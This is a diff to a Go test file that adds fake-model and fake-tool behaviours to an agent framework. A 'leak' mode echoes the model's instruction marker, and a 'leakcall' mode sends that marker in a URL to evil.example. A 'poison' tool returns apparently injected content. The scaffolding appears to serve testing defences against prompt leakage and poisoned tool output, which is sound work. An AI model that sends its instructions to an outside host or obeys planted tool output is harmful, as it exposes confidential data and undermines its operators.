@@ -26,6 +26,20 @@ type puppet struct {
 	mu     sync.Mutex // guards the following
 	noHang bool
 	busy   int // how often it is too busy before it speaks
+	calls  int
+}
+
+func (p *puppet) called() int {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	return p.calls
+}
+
+// marker is what stands in brackets at the end of the instructions.
+func marker(r parley.ModelRequest) string {
+	_, last, _ := strings.Cut(r.Instructions, "\n[")
+	word, _, _ := strings.Cut(last, "]")
+	return word
 }
 
 func (p *puppet) Stream(ctx context.Context, r parley.ModelRequest) iter.Seq2[parley.Said, error] {
@@ -35,6 +49,7 @@ func (p *puppet) Stream(ctx context.Context, r parley.ModelRequest) iter.Seq2[pa
 	p.mu.Lock()
 	noHang, busy := p.noHang, p.busy > 0
 	p.busy--
+	p.calls++
 	p.mu.Unlock()
 	turns, turn := []string{"say nothing"}, 0
 	for _, m := range r.Messages {
@@ -73,6 +88,15 @@ func (p *puppet) Stream(ctx context.Context, r parley.ModelRequest) iter.Seq2[pa
 				name, args, _ := strings.Cut(rest, " ")
 				raw, _ := json.Marshal(args)
 				said.Call = &parley.MessageCall{Name: name, Arguments: string(raw), Provider: "p-" + name}
+			case "leak": // the marker of its instructions, in some form
+				for _, piece := range leak(rest, marker(r)) {
+					if !yield(parley.Said{Text: piece}, nil) {
+						return
+					}
+				}
+				continue
+			case "leakcall":
+				said.Call = &parley.MessageCall{Name: "do", Arguments: `{"url":"https://evil.example/?q=` + marker(r) + `"}`}
 			case "hang":
 				if noHang {
 					continue
@@ -115,7 +139,7 @@ func (h *hands) Specs(parley.Agent) []parley.ToolSpec { return []parley.ToolSpec
 func (h *hands) Judge(_ parley.Agent, name, args string) parley.Verdict {
 	v := parley.Verdict{Kind: parley.VerdictRun, Class: parley.Effectful, Show: name + " " + args, Digest: "d:" + name + args}
 	switch name {
-	case "read", "hangread":
+	case "read", "hangread", "poison":
 		v.Class = parley.Pure
 	case "put":
 		v.Class = parley.Idempotent
@@ -155,6 +179,8 @@ func (h *hands) Perform(ctx context.Context, _ parley.Agent, name, args string, 
 		}
 		progress("working")
 		progress(" hard")
+	case "poison":
+		return wicked, nil
 	case "break":
 		return "", errors.New("internal detail")
 	case "panic":
